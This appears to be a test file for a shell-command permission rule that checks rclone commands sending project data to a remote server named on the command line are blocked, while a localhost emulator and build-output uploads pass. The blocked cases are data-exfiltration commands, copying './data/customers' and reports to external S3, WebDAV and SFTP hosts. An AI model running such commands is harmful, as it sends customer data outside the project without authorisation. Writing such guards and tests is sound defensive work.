// rclone given its backend's server on the command line (`--s3-endpoint URL`, `--webdav-url URL`):
// the option's value is no source or destination, and its host is where the files go.
import { describe, expect, it } from 'vitest';
import { bashRule } from '../pack-rule.js';

const bash = bashRule('/home/dev/etl');

describe('rclone server options', () => {
  it('project data copied to a remote whose server is named on the line is stopped', async () => {
    for (const c of [
      'rclone copy ./data/customers s3remote:dump-bucket-7731/ --s3-endpoint https://s3.eu-west.wasabisys.com',
      'rclone sync ./exports remote:bucket --s3-endpoint=https://objects.example-storage.net',
      'rclone copy ./data/customers --webdav-url https://dav.example.org :webdav:/drop',
      'rclone move --sftp-host files.example.net ./reports :sftp:/incoming',
    ])
      expect(await bash(c), c).not.toBe('allow');
  });

  it('a local emulator endpoint or a build output passes', async () => {
    for (const c of [
      'rclone copy ./data/customers s3remote:bucket --s3-endpoint http://localhost:9000',
      'rclone copy dist/ s3remote:site --s3-endpoint https://s3.eu-west.wasabisys.com',
    ])
      expect(await bash(c), c).toBe('allow');
  });
});
